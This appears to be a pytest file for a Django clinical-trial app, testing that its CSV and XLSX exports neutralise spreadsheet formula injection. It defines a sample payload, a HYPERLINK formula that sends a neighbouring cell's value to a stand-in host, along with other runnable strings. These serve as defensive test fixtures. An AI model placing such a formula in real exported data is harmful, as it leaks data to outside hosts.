"""Text that a spreadsheet would run (CWE-1236, formula injection): every XLSX the app
writes holds text as text, never as a formula; every CSV it writes follows the data
package's rule (a leading apostrophe before = + - @ tab or carriage return; numbers
and dates never prefixed)."""

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command
from openpyxl import load_workbook
from simple_history.utils import update_change_reason

from analysis.services.reports import report_build, report_request_operator
from diary.exports.codebook import codebook_csv
from diary.exports.data import export_data
from diary.exports.formats import stored_files
from diary.models import AdverseEvent, Participant, Site
from diary.package.codebook import codebook
from diary.package.writer import csv_bytes, format_cell

pytestmark = pytest.mark.django_db

# The field report: an adverse event term that Excel runs, sending the neighbouring cell away.
HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A2,"Headache")'
RUNNABLE = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd", "=1+1"]


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


@pytest.fixture
def runnable_trial(data_trial):
    """The data trial with text a spreadsheet would run in every kind of text column."""
    event = AdverseEvent.objects.filter(participant__trial=data_trial).order_by("pk").first()
    AdverseEvent.objects.filter(pk=event.pk).update(term=HYPERLINK, outcome="@resolved")
    withdrawn = Participant.objects.filter(trial=data_trial).exclude(withdrawn_on=None).get()
    Participant.objects.filter(pk=withdrawn.pk).update(withdrawal_reason="-moved away")
    Site.objects.filter(trial=data_trial, code="C1").update(name="+Central hospital")
    return data_trial


@pytest.mark.parametrize("text", RUNNABLE)
def test_a_csv_text_cell_a_spreadsheet_would_run_gets_one_apostrophe(text):
    assert format_cell(text, "text") == "'" + text
    assert format_cell(text, "code") == "'" + text


@pytest.mark.parametrize("text", ["Headache", " =1", "'=1", "", "1-2", "a=b"])
def test_other_text_is_written_as_it_is(text):
    assert format_cell(text, "text") == text


def test_numbers_and_dates_are_never_prefixed():
    assert format_cell(-3, "int") == "-3"
    assert format_cell(Decimal("-2.50"), "decimal") == "-2.5"
    assert format_cell(-0.25, "decimal") == "-0.25"
    assert format_cell(date(2024, 3, 1), "date") == "2024-03-01"
    assert format_cell(True, "bool") == "1"


def test_the_package_csv_escapes_the_field_report(runnable_trial):
    files = stored_files(export_data(trial=runnable_trial, unblinded=False), "package")
    with zipfile.ZipFile(io.BytesIO(files["package.zip"])) as archive:
        events = _csv_rows(archive.read("adverse_events.csv"))
        participants = _csv_rows(archive.read("participants.csv"))
        sites = _csv_rows(archive.read("sites.csv"))
    header = events[0]
    terms = [row[header.index("term")] for row in events[1:]]
    assert "'" + HYPERLINK in terms and HYPERLINK not in terms
    assert "'@resolved" in [row[header.index("outcome")] for row in events[1:]]
    header = participants[0]
    assert "'-moved away" in [row[header.index("withdrawal_reason")] for row in participants[1:]]
    assert ["C1", "'+Central hospital"] in sites


def test_the_xlsx_export_holds_the_term_as_text_not_a_formula(runnable_trial):
    workbook = stored_files(export_data(trial=runnable_trial, unblinded=False), "xlsx")
    book = load_workbook(io.BytesIO(workbook["data.xlsx"]))
    cells = [c for row in book["adverse_events"].iter_rows() for c in row]
    (term,) = [c for c in cells if c.value == HYPERLINK]
    assert term.data_type == "s"  # a string, never "f" (a formula)
    assert term.quotePrefix  # and Excel keeps it text when the cell is edited
    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    sites = {r[0]: r[1] for r in book["sites"].iter_rows(values_only=True)}
    assert sites["C1"] == "+Central hospital"  # XLSX text needs no apostrophe


def test_the_codebook_csv_follows_the_rule(data_trial):
    data = export_data(trial=data_trial, unblinded=False)
    assert codebook_csv(codebook(data.tables)) == stored_files(data, "codebook")["codebook.csv"]
    assert csv_bytes(["label"], ["text"], [["=cmd"], ["-1"]]) == b"label\n'=cmd\n'-1\n"


def test_the_audit_trail_export_escapes_text_but_not_numbers_or_dates(runnable_trial, tmp_path):
    event = AdverseEvent.objects.filter(participant__trial=runnable_trial).first()
    event.outcome = "Resolved"
    event.save()
    update_change_reason(event, HYPERLINK)
    path = tmp_path / "audit.csv"
    call_command("export_history", str(path), stdout=io.StringIO())
    header, *rows = _csv_rows(path.read_bytes())
    reasons = [row[header.index("change_reason")] for row in rows]
    assert "'" + HYPERLINK in reasons and HYPERLINK not in reasons
    for row in rows:
        assert not row[header.index("history_date")].startswith("'")
        assert not row[header.index("object_id")].startswith("'")


def test_the_report_xlsx_and_csv_hold_runnable_text_safely(data_trial, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    data_trial.title = HYPERLINK
    data_trial.save(update_fields=["title"])
    report = report_build(
        report=report_request_operator(os_user="ops", formats=["xlsx", "csv"], trial=data_trial)
    )
    assert report.status == "done", report.error
    xlsx = Path(report.files.get(kind="xlsx").file.path).read_bytes()
    book = load_workbook(io.BytesIO(xlsx))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    titles = [c for c in cells if c.value == HYPERLINK]
    assert titles and all(title.data_type == "s" for title in titles)
    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    tables = Path(report.files.get(kind="csv").file.path).read_bytes()
    with zipfile.ZipFile(io.BytesIO(tables)) as archive:
        about = _csv_rows(archive.read("report.csv"))
    assert ["title", "'" + HYPERLINK] in about
    # Numbers stay numbers: a negative difference is never prefixed.
    with zipfile.ZipFile(io.BytesIO(tables)) as archive:
        text = b"".join(archive.read(n) for n in archive.namelist()).decode()
    assert ",'-0" not in text and ",'-1" not in text
